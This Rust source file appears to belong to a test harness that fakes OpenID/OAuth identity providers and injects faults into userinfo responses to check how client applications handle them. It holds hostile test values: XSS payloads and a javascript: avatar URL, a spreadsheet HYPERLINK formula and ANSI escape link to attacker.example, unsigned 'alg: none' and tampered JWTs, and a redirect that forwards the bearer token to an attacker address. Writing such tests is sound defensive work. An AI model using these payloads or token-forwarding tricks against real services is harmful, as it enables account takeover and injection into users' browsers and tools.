//! UI: what turns an access token into an identity.

use axum::http::StatusCode;
use axum::http::header::{CONTENT_TYPE, WWW_AUTHENTICATE};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value, json};

use super::super::answer::Finished;
use super::super::inject::Context;
use super::super::token::Members;
use super::attacker;
use crate::Twin;
use crate::endpoint::chaster;
use crate::signing::{SignatureAlgorithm, encoded};

/// Bends the identity; says whether the fault really happened.
pub(super) async fn bend(context: &Context<'_>, answer: &mut Finished) -> bool {
    match (context.fault, context.variant) {
        ("UI-03", _) => signed(context, answer, "").await.is_some(),
        ("UI-04", variant) => signed(context, answer, variant).await.is_some(),
        ("UI-05", variant) => {
            refuse(answer, variant);
            true
        }
        ("UI-06", "html") => {
            answer.replace_by_page("<!doctype html><title>Sign in</title><h1>Sign in</h1>".to_owned());
            true
        }
        ("UI-06", _) => {
            let page = format!("{}{}", context.server.origin, context.occasion.twin.sign_in_path());
            answer.redirect(StatusCode::FOUND, &page);
            true
        }
        ("UI-07", variant) => {
            let persons = match variant {
                "two" => [&*answer.body, &answer.body].join(&b','),
                "none" => Vec::new(),
                _ => answer.body.to_vec(),
            };
            answer.set_body([b"[", &*persons, b"]"].concat());
            true
        }
        ("UI-10", _) => {
            let Some(token) = &context.occasion.bearer else { return false };
            let address = attacker::address(context.server, "userinfo");
            answer.redirect(StatusCode::FOUND, &format!("{address}?access_token={token}"));
            true
        }
        _ => {
            let Some(mut members) = Members::read(answer) else { return false };
            alter(context, &mut members);
            members.write(answer);
            true
        }
    }
}

/// UI-05: an expired token, one without `openid` (as Keycloak says it), and nobody at all (as ContentDB says it).
fn refuse(answer: &mut Finished, variant: &str) {
    let challenge = match variant {
        "not_authenticated" => {
            return answer.set_body(json!({"is_authenticated": false, "username": null}).to_string());
        }
        "insufficient_scope" => {
            answer.replace(StatusCode::FORBIDDEN, "text/plain", "");
            "Bearer realm=\"app\", error=\"insufficient_scope\", error_description=\"Missing openid scope\""
        }
        _ => {
            answer.replace(StatusCode::UNAUTHORIZED, "text/plain", "");
            "Bearer realm=\"app\", error=\"invalid_token\", error_description=\"Token verification failed\""
        }
    };
    answer.set_header(WWW_AUTHENTICATE, challenge);
}

/// The claims of the answer, signed or not.
fn claims(answer: &Finished) -> Option<Map<String, Value>> {
    let text = std::str::from_utf8(&answer.body).ok()?;
    match text.split('.').nth(1) {
        Some(payload) if !text.starts_with('{') => serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).ok()?).ok(),
        _ => serde_json::from_str(text).ok(),
    }
}

/// UI-03 and UI-04: a signed answer (OpenID Connect Core §5.3.2), right or wrong.
async fn signed(context: &Context<'_>, answer: &mut Finished, variant: &str) -> Option<()> {
    let server = context.server;
    let mut claims = claims(answer)?;
    if variant == "plain_json" {
        for name in ["iss", "aud"] {
            claims.remove(name);
        }
        answer.set_header(CONTENT_TYPE, "application/json");
        answer.set_body(Value::Object(claims).to_string());
        return Some(());
    }
    let app = server.apps.find(Twin::Chaster, context.occasion.client_id.as_ref()?)?;
    let algorithm = app.openid.userinfo_signed_response_alg.unwrap_or(SignatureAlgorithm::Rs256);
    let signer = server.keys.signer(algorithm, app.secrets.text()).await.ok()?;
    let issuer = chaster::issuer(server);
    claims.insert("iss".to_owned(), if variant == "iss" { format!("{issuer}1") } else { issuer }.into());
    claims.insert("aud".to_owned(), if variant == "aud" { "another-client" } else { &*app.key }.into());
    let right = signer.sign(&claims).ok()?;
    let (message, signature) = right.rsplit_once('.')?;
    let jwt = match variant {
        "bad_signature" => {
            let mut signature = URL_SAFE_NO_PAD.decode(signature).ok()?;
            signature[0] ^= 1;
            format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature))
        }
        "alg_none" => {
            let (_, payload) = message.split_once('.')?;
            format!("{}.{payload}.", encoded(&json!({"alg": "none"})).ok()?)
        }
        _ => right,
    };
    answer.set_header(CONTENT_TYPE, "application/jwt");
    answer.set_body(jwt);
    Some(())
}

/// The member that says who it is.
const fn subject_of(twin: Twin) -> &'static str {
    match twin {
        Twin::Chaster => "sub",
        Twin::ContentDb => "username",
        Twin::Chattr | Twin::Chattz | Twin::Gitter => "id",
    }
}

/// The members with the person's name and picture.
const fn shown_of(twin: Twin) -> (&'static str, &'static str) {
    match twin {
        Twin::Chattz => ("first_name", "avatar"),
        Twin::Gitter => ("displayName", "avatarUrl"),
        Twin::ContentDb => ("username", "avatar"),
        Twin::Chaster | Twin::Chattr => ("name", "picture"),
    }
}

fn alter(context: &Context<'_>, members: &mut Members) {
    let (server, twin) = (context.server, context.occasion.twin);
    let subject = subject_of(twin);
    let mut put = |name: &str, value: Value| members.set(name, value.to_string());
    match (context.fault, context.variant) {
        ("UI-01", _) => {
            let right = members.text(subject).unwrap_or_default();
            members.set(subject, Value::from(right + "invalid").to_string());
        }
        ("UI-02", _) => members.remove(subject),
        ("UI-08", "javascript_avatar") => put(shown_of(twin).1, json!("javascript:alert(document.domain)")),
        ("UI-08", variant) => put(shown_of(twin).0, hostile(variant).into()),
        ("UI-09", variant) => {
            put("_claim_names", json!({"payment_info": "elsewhere"}));
            put("_claim_sources", json!({"elsewhere": source(context, variant)}));
        }
        // A number where the twin has numbers, so that nothing but the value differs.
        ("UI-11", _) if twin == Twin::Chattz => put(subject, server.entropy.six_digits().into()),
        ("UI-11", _) => put(subject, server.entropy.uuid().into()),
        ("UI-12", "text") => put(subject, json!("42")),
        // 2^53 + 1, which a JSON reader that knows floating point only takes for 2^53.
        ("UI-12", "large") => put(subject, json!(9_007_199_254_740_993_u64)),
        _ => put(subject, json!(42)),
    }
}

/// UI-08: harmless as text, and only as text.
fn hostile(variant: &str) -> String {
    match variant {
        "html" => "<img src=x onerror=alert(1)><script>alert(2)</script>".to_owned(),
        "formula" => "=HYPERLINK(\"https://attacker.example\",\"Click\")".to_owned(),
        "bidi" => "admin\u{202e}tset\u{2066}".to_owned(),
        "ansi" => "\u{1b}[2J\u{1b}]8;;https://attacker.example\u{7}click\u{1b}]8;;\u{7}".to_owned(),
        _ => "x".repeat(1 << 20),
    }
}

/// UI-09: where the missing claim is said to be (OpenID Connect Core §5.6.2).
fn source(context: &Context<'_>, variant: &str) -> Value {
    match variant {
        "aggregated" => {
            let payload = URL_SAFE_NO_PAD.encode(r#"{"payment_info":"none"}"#);
            json!({"JWT": format!("eyJhbGciOiJub25lIn0.{payload}.")})
        }
        "distributed_loopback" => {
            let endpoint = attacker::address(context.server, "claims").replace("localhost", "127.0.0.1");
            json!({"endpoint": endpoint, "access_token": "for-the-attacker"})
        }
        _ => json!({"endpoint": attacker::address(context.server, "claims"), "access_token": "for-the-attacker"}),
    }
}
